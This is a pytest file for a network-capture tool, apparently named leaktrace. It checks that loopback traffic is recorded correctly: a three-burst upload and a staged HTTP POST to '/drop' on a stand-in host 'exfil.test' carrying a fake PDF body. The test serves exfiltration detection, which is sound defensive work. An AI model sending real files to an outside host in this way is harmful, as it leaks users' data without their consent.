"""`leaktrace collect --interface lo` (root and tcpdump): an upload in bursts and an HTTP POST on 127.0.0.1,
visible in the lake while the upload is still going on."""

from __future__ import annotations

import os
import shutil
import socket
import threading
import time

import pytest

from leaktrace.ingest.net.cli import run_capture
from leaktrace.workspace import Workspace
from tests.ingest_net.helpers import query

pytestmark = pytest.mark.skipif(os.geteuid() != 0 or shutil.which("tcpdump") is None,
                                reason="needs root and tcpdump to capture on lo")


def _server(sock: socket.socket, received: list[int], reply: bytes) -> None:
    conn, _ = sock.accept()
    with conn:
        total = 0
        while chunk := conn.recv(65536):
            total += len(chunk)
            if reply and b"\r\n\r\n" in chunk:
                conn.sendall(reply)
        received.append(total)


def _wait_for(predicate, timeout: float = 10.0) -> bool:  # type: ignore[no-untyped-def]
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return True
        time.sleep(0.2)
    return False


def test_loopback_upload_and_http(ws: Workspace) -> None:
    stop = threading.Event()
    totals: dict[str, int] = {}
    runner = threading.Thread(target=lambda: totals.update(run_capture(ws.root, "lo", 0.3, stop_event=stop)),
                              daemon=True)
    runner.start()
    spool = ws.state_dir / "live" / "collect-lo"
    assert _wait_for(lambda: any(spool.glob("*.pcap")))  # tcpdump is capturing
    try:
        # 1. an upload in three pieces, 2 s apart; the first pieces are in the lake before the connection ends
        srv = socket.create_server(("127.0.0.1", 0))
        port = srv.getsockname()[1]
        got: list[int] = []
        t = threading.Thread(target=_server, args=(srv, got, b""), daemon=True)
        t.start()
        sent_so_far = f"SELECT coalesce(sum(bytes_out), 0) FROM conn WHERE dst_port = {port}"
        with socket.create_connection(("127.0.0.1", port)) as c:
            for size in (300_000, 500_000, 200_000):
                c.sendall(b"u" * size)
                time.sleep(2.0)
            assert _wait_for(lambda: query(ws, sent_so_far)[0][0] >= 300_000)
        t.join(5)
        srv.close()
        # 2. an HTTP POST
        srv2 = socket.create_server(("127.0.0.1", 0))
        port2 = srv2.getsockname()[1]
        t2 = threading.Thread(target=_server, args=(srv2, [], b"HTTP/1.1 204 No Content\r\n\r\n"), daemon=True)
        t2.start()
        body = b"%PDF-1.5\n" + b"p" * 5000
        with socket.create_connection(("127.0.0.1", port2)) as c:
            c.sendall(b"POST /drop HTTP/1.1\r\nHost: exfil.test\r\nContent-Length: " + str(len(body)).encode()
                      + b"\r\n\r\n" + body)
            c.recv(100)
        t2.join(5)
        srv2.close()
        time.sleep(1.0)
    finally:
        stop.set()
        runner.join(20)
    assert got == [1_000_000]
    # progress rows and the final row of the flow add up to its bytes exactly (nothing counted twice)
    assert query(ws, sent_so_far) == [(1_000_000,)]
    assert query(ws, f"SELECT count(DISTINCT uid) FROM conn WHERE dst_port = {port}") == [(1,)]
    bursts = query(ws, f"SELECT burst_index, bytes FROM upload_bursts WHERE dst_port = {port} ORDER BY 1")
    assert bursts == [(0, 300_000), (1, 500_000), (2, 200_000)]
    http = query(ws, f"SELECT method, host, uri, status_code, request_body_len FROM http WHERE dst_port = {port2}")
    assert http == [("POST", "exfil.test", "/drop", 204, len(body))]
    assert query(ws, f"SELECT mime_type FROM net_files WHERE uid IN (SELECT uid FROM http WHERE dst_port = {port2})"
                 ) == [("application/pdf",)]
    assert totals.get("conn", 0) >= 2
